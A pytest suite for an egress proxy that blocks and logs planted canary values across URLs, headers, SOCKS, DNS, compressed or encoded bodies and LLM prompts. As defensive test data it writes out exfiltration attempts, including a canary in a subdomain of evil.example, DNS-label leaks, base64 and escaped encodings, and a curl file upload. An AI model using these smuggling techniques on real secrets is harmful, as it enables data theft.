# SPDX-License-Identifier: Apache-2.0
"""Values that were planted: wherever one is seen leaving it is refused, on record under its label and counted, and never in
any log."""
import base64
import gzip
import json
import socket
import struct
import subprocess
import zlib

import pytest
from support.gate import allow, ask, free_port, hosts, read_reply, run_exeat
from support.llm import local, reroute
from support.questions import Questions, free_dns_port
from support.wait import wait_for

MAIL, NAME, HOST = "luvosatidekopimuzarebo@shop.example", "Rabogesuvitakonilepodu", "k7q2m9x4c3v8b5n6.shop.example"
NAMED = f"x.{NAME}.evil.example"
FILE = f"# planted\ncustomer {MAIL}\nword {NAME}\nname {HOST}\n"


def planted(folder):
    path = folder / "canaries.txt"
    path.write_text(FILE)
    path.chmod(0o600)
    return path


@pytest.fixture
def shop(gate, origin, tmp_path):
    path = planted(tmp_path)
    one = gate(resolve=hosts("shop.example", "looks.example"), canaries=str(path), rules=[
        allow("*.example", id="all", schemes=["http"]),
        allow("looks.example", id="looks", schemes=["http"], inspect={"flag": ["card"], "redact": ["email"]})])
    one.list = path
    one.at = f"shop.example:{origin.port}"
    return one


def socks(port, host, target):
    """What was asked for; the answer is still to be read."""
    connection = socket.create_connection(("127.0.0.1", port), timeout=60)
    connection.sendall(b"\5\1\0")
    assert connection.recv(2) == b"\5\0"
    connection.sendall(b"\5\1\0\3" + bytes([len(host)]) + host.encode() + struct.pack(">H", target))
    return connection


def refused(shop, reply, place, label):
    assert reply.status == 403 and b"canary_seen" in reply.body and label.encode() in reply.body
    decision = shop.decisions()[-1]
    assert (decision["verdict"], decision["reason"], decision["found"]) == ("deny", "canary_seen", f"canary deny 1 {place} {label}")


def nowhere(shop):
    shop.stop()
    for path in [*(shop.folder / "audit").iterdir(), shop.log_path]:
        for value in (MAIL, NAME, HOST.split(".")[0]):
            assert value.lower().encode() not in path.read_bytes().lower(), path


HEADS = [
    ("/a/" + NAME, {}, "path", "word"),
    ("/?q=" + MAIL.replace("@", "%40"), {}, "query", "customer"),
    ("/?q=" + "".join(f"%25{ord(one):02x}" for one in MAIL), {}, "query", "customer"),
    ("/", {"X-Note": f"for {NAME.upper()}!"}, "head.x-note", "word"),
    ("/", {"Authorization": "Basic " + base64.b64encode(f"x:{NAME}".encode()).decode()}, "head.authorization", "word"),
]


@pytest.mark.parametrize("rest, fields, place, label", HEADS, ids=[str(i) for i in range(len(HEADS))])
def test_one_in_a_head_goes_nowhere(shop, origin, rest, fields, place, label):
    refused(shop, shop.get(f"http://{shop.at}{rest}", "GET", fields), place, label)
    assert origin.connections == 0 and "exeat_canary_total 1" in shop.metrics()
    nowhere(shop)


def test_one_in_a_name_is_refused_whatever_rule_has_the_host(shop, origin):
    refused(shop, shop.get(f"http://{HOST}:{origin.port}/"), "host", "name")
    with shop.connect() as connection:
        connection.sendall(f"CONNECT {HOST}:443 HTTP/1.1\r\nHost: {HOST}:443\r\n\r\n".encode())
        assert read_reply(connection).status == 403
    assert shop.decisions()[-1]["reason"] == "canary_seen" and origin.connections == 0
    refused(shop, shop.get(f"http://{NAMED}:{origin.port}/"), "host", "word")
    refused(shop, shop.get(f"http://{shop.at}/", NAME.upper()), "method", "word")
    assert [(one["method"], one["host"]) for one in shop.decisions()] == [
        ("GET", "*.shop.example"), ("CONNECT", "*.shop.example"), ("GET", "*.evil.example"), ("*", "shop.example")]
    nowhere(shop)


def test_one_in_a_name_is_refused_at_the_door_for_socks_and_in_what_is_said_behind_it(gate, origin, tmp_path):
    port = free_port()
    shop = gate(resolve=hosts("shop.example"), listen={"socks": [f"127.0.0.1:{port}"]}, canaries=str(planted(tmp_path)),
                rules=[allow("*.example", schemes=["http"])])
    with socks(port, HOST, 25) as connection:
        assert connection.recv(2) == b"\5\2"
    with socks(port, "shop.example", origin.port) as connection:
        assert connection.recv(10)[1] == 0
        refused(shop, ask(connection, f"GET /{NAME} HTTP/1.1\r\nHost: shop.example:{origin.port}\r\n\r\n".encode()), "path", "word")
    assert origin.connections == 0
    nowhere(shop)


def test_a_body_is_cut_before_the_end_of_one_has_left(shop, origin):
    """Also where it comes in pieces, far behind in a long body."""
    body = json.dumps({"fill": "x" * 300000, "mail": MAIL}).encode()
    with shop.connect() as connection:
        connection.sendall(f"POST http://{shop.at}/ HTTP/1.1\r\nHost: {shop.at}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body[:-20])
        wait_for(lambda: origin.connections, "the beginning at the origin")
        connection.sendall(body[-20:])
        reply = read_reply(connection)
    assert reply.status == 403 and b"canary_seen" in reply.body
    outcome = shop.outcome_of(shop.only_decision())
    assert (outcome["reason"], outcome["found"]) == ("canary_seen", "canary deny 1 body customer")
    assert not any(MAIL.encode() in request["body"] for request in origin.requests) and "exeat_canary_total 1" in shop.metrics()
    nowhere(shop)


BODIES = [
    json.dumps({"a": "".join(f"\\u{ord(one):04x}" for one in MAIL)}).replace("\\\\", "\\"),
    json.dumps({"file": base64.b64encode(b"name;mail\nAnna;" + MAIL.encode() + b"\n").decode()}),
    "mail=" + MAIL.replace("@", "%40"),
    f"<mail>{MAIL.replace('@', '&#64;')}</mail>",
]


@pytest.mark.parametrize("host", ["shop.example", "looks.example"])
def test_one_in_a_body_is_seen_in_every_spelling(shop, origin, host):
    for body in BODIES:
        kind = "application/json" if body[0] == "{" else "application/xml" if body[0] == "<" else "application/x-www-form-urlencoded"
        reply = shop.get(f"http://{host}:{origin.port}/", "POST", {"Content-Type": kind}, body.encode())
        assert reply.status == 403 and b"canary_seen" in reply.body, body
    assert not any(request["body"] in [body.encode() for body in BODIES] for request in origin.requests) and f"exeat_canary_total {len(BODIES)}" in shop.metrics()


def test_a_file_that_observes_says_so_and_lets_it_pass(gate, origin, tmp_path):
    planted(tmp_path)
    one = gate(resolve=hosts("shop.example"), canaries=str(tmp_path / "canaries.txt"), mode="observe", rules=[allow("shop.example", schemes=["http"])])
    assert one.get(f"http://shop.example:{origin.port}/?a={NAME}").status == 200
    decision = one.only_decision()
    assert (decision["verdict"], decision["reason"], decision["observed"], decision["found"]) == ("deny", "canary_seen", 1, "canary flag 1 query word")
    assert "exeat_canary_total 1" in one.metrics()
    assert one.get(f"http://shop.example:{origin.port}/", "POST", {}, MAIL.encode()).status == 200
    decision = one.decisions()[-1]
    outcome = one.outcome_of(decision)
    assert (decision["reason"], decision.get("found", "")) == ("rule", "") and outcome["found"] == "canary flag 1 body customer"
    wait_for(lambda: "exeat_canary_total 2" in one.metrics(), "the second in the metric")
    nowhere(one)


CODINGS = [("gzip", gzip.compress), ("deflate", zlib.compress), ("gzip, deflate", lambda body: zlib.compress(gzip.compress(body)))]


@pytest.mark.parametrize("coding, code", CODINGS, ids=[name for name, _ in CODINGS])
def test_one_in_a_coded_body_is_seen_where_a_rule_looks_into_bodies(shop, origin, coding, code):
    body = code(json.dumps({"mail": MAIL, "text": "x" * 500}).encode())
    fields = {"Content-Type": "application/json", "Content-Encoding": coding}
    refused(shop, shop.get(f"http://looks.example:{origin.port}/", "POST", fields, body), "body", "customer")
    assert origin.connections == 0


def test_a_file_that_others_may_read_is_refused(tmp_path):
    planted(tmp_path).chmod(0o644)
    (tmp_path / "exeat.yaml").write_text("version: 1\ncanaries: canaries.txt\nrules: []\n")
    done = run_exeat("check", "-c", tmp_path / "exeat.yaml")
    assert done.returncode == 2 and "others may read or write" in done.stderr and NAME not in done.stderr


def test_a_prompt_takes_none_to_the_endpoint(gate, inference, tmp_path):
    planted(tmp_path)
    shop = gate(inference=[local(inference.port)], canaries=str(tmp_path / "canaries.txt"), rules=[reroute("local")])
    data = json.dumps({"model": "gpt-4o", "messages": [{"role": "user", "content": f"write to {MAIL}"}]}).encode()
    head = f"POST /v1/chat/completions HTTP/1.1\r\nHost: api.openai.com\r\nContent-Type: application/json\r\nContent-Length: {len(data)}\r\n\r\n"
    with shop.secure("api.openai.com") as connection:
        assert ask(connection, head.encode() + data).status == 403
    assert not inference.requests and shop.only_decision()["found"] == "canary deny 1 body customer"


def test_real_clients_are_refused(shop, origin):
    """PHP's curl with a form, and curl with a file."""
    (shop.folder / "file").write_text("x" * 100000 + MAIL)
    done = subprocess.run(["curl", "-sS", "-m", "60", "-x", f"http://127.0.0.1:{shop.port}", "--data-binary", f"@{shop.folder}/file", f"http://{shop.at}/"],
                          capture_output=True, text=True, timeout=120)
    assert "canary_seen" in done.stdout + done.stderr, done
    code = """$c = curl_init($argv[1]); curl_setopt_array($c, [CURLOPT_PROXY => $argv[2], CURLOPT_RETURNTRANSFER => true,
              CURLOPT_POSTFIELDS => ['mail' => $argv[3]]]); echo curl_exec($c);"""
    done = subprocess.run(["php", "-r", code, f"http://{shop.at}/", f"http://127.0.0.1:{shop.port}", MAIL], capture_output=True, text=True, timeout=120)
    assert "canary_seen" in done.stdout, done
    assert not any(MAIL.encode() in request["body"] for request in origin.requests)


@pytest.mark.parametrize("kind", ["email", "key", "price", "name", "host"])
def test_a_new_one_is_a_line_of_the_file_and_no_two_are_alike(kind, tmp_path):
    lines = {run_exeat("canary", "new", kind).stdout for _ in range(5)}
    assert len({line.split()[1] for line in lines}) == 5 and all(line.startswith(f"{kind}-") for line in lines)
    planted(tmp_path).write_text("".join(lines))
    (tmp_path / "exeat.yaml").write_text("version: 1\nlisten: { forward: ['127.0.0.1:3128'] }\ncanaries: canaries.txt\nrules: []\n")
    done = run_exeat("check", "-c", tmp_path / "exeat.yaml")
    assert done.returncode == 0, done.stderr


def test_a_new_file_of_canaries_holds_without_a_new_policy(shop, origin):
    assert shop.get(f"http://{shop.at}/?a=Tobilesukarimonigavezo").status == 200
    shop.list.write_text(FILE + "later Tobilesukarimonigavezo\n")
    wait_for(lambda: shop.get(f"http://{shop.at}/?a=Tobilesukarimonigavezo").status == 403, "the new canary")


def test_a_question_for_a_planted_name_is_refused(gate, tmp_path):
    planted(tmp_path)
    port = free_dns_port()
    one = gate(canaries=str(tmp_path / "canaries.txt"), listen={"dns": [f"127.0.0.1:{port}"]}, rules=[allow("*.example")])
    assert Questions("127.0.0.1", port).udp(f"a.{HOST}").code == "REFUSED"
    decision = wait_for(one.decisions, "the decision")[-1]
    assert (decision["reason"], decision["found"]) == ("canary_seen", "canary deny 1 host name") and decision["host"] == "*.shop.example"
    nowhere(one)
